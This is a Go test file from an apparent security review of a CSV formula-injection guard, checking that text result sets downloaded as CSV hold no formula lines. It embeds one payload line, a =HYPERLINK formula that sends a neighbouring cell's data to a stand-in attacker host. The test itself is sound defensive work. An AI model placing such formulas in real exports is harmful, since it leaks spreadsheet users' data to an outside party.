package restapi

// Second security review of the CSV formula guard (4370813): FAILS on the
// code as reviewed.

import (
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"

	"github.com/golinkis/golinkis/orchestrator/restapi/restapitest"
)

// A text result set (a script's output) downloads as NAME.csv like a
// table's, and a spreadsheet opens it as CSV: each line's fields are
// cells. A line a job printed from a shared table's data - or another
// user's output an administrator exports - that begins with '=' is a
// formula on the downloader's machine, as a table's cell was before the
// fix; the guard skips text results altogether.
func TestReview2TextResultCSVIsNotAFormula(t *testing.T) {
	f := restapitest.NewJobs()
	h := newTestHandler(t, f)
	sub := submitShell(t, h)
	p := filepath.Join(t.TempDir(), "_0.jsonl")
	if err := f.AddResult(sub.ExecID, p, `{"type":"text","columns":[{"name":"line","type":"TEXT"}]}`+"\n"+
		`["=HYPERLINK(\"http://attacker.invalid/?\"&A2,\"open\")"]`+"\n"+`["secret-row"]`+"\n"); err != nil {
		t.Fatal(err)
	}
	r := httptest.NewRequest("GET", Prefix+"/filesystem/resultsetToExcel?outputFileType=csv&path="+p, nil)
	r.Header.Set(HeaderTokenUser, "alice")
	r.Header.Set(HeaderTokenCode, testUsers["alice"])
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	if w.Code != http.StatusOK {
		t.Fatalf("download: HTTP %d %s", w.Code, w.Body)
	}
	disp := w.Header().Get("Content-Disposition")
	for _, line := range strings.Split(strings.TrimSuffix(w.Body.String(), "\n"), "\n") {
		if line != "" && strings.ContainsRune("=+-@\t\r", rune(line[0])) {
			t.Errorf("the text result downloaded as %s holds the line %q, a formula when a spreadsheet opens it", disp, line)
		}
	}
}
